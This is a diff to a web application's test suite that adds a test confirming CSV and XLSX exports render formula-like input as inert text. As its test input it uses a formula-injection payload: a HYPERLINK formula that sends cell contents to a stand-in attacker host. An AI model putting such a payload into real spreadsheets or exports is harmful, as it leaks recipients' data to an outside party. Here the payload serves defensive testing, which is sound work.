@@ -1,3 +1,4 @@
+import csv
 import importlib.util
 import io
 import json
@@ -63,6 +64,32 @@ def test_downloads_carry_the_same_figures(client, login, manager, population):
     csv_text = client.get("/reports/2025H2/export.csv?scope=cumulative").data.decode("utf-8-sig")
     assert "2025H2,cumulative,labour_status,Participants by labour-market status at entry,total,EECO01," \
            "Total participants,total,7" in csv_text
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_every_spreadsheet_export(client, login, make_user, manager,
+                                                                                population, person):
+    """A client's name and the ESF narrative typed as formulas come out as inert text in each CSV and XLSX."""
+    payload = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
+    person(payload, entries=[(date(2025, 9, 1), None, None)])
+    network_services.create_narrative(manager, H2, progress=payload, equality="-1+1")
+    network_services.create_meeting(manager, held_on=date(2025, 10, 1), attendees="Board", decisions="@SUM(A1:A9)")
+    db.session.commit()
+    login(make_user(Role.ADMIN))
+
+    cases_csv = client.get("/cases/export.csv").data.decode("utf-8-sig")
+    report_csv = client.get("/reports/2025H2/export.csv").data.decode("utf-8-sig")
+    cells = {text: [cell for row in csv.reader(io.StringIO(text)) for cell in row] for text in (cases_csv, report_csv)}
+    assert "'" + payload + " Person" in cells[cases_csv]  # the name as typed, behind an apostrophe
+    for text in (cases_csv, report_csv):
+        assert [cell for cell in cells[text] if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+
+    workbook = load_workbook(io.BytesIO(client.get("/reports/2025H2/export.xlsx").data))
+    texts = {cell.value: cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
+             if isinstance(cell.value, str)}
+    for typed in (payload, "-1+1", "@SUM(A1:A9)"):
+        assert texts[typed].data_type == "s" and texts[typed].quotePrefix  # shown as typed, never computed
+    assert not [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
+                if cell.data_type == "f"]
 
 
 def test_public_downloads_hide_small_cells(client, login, manager, population):
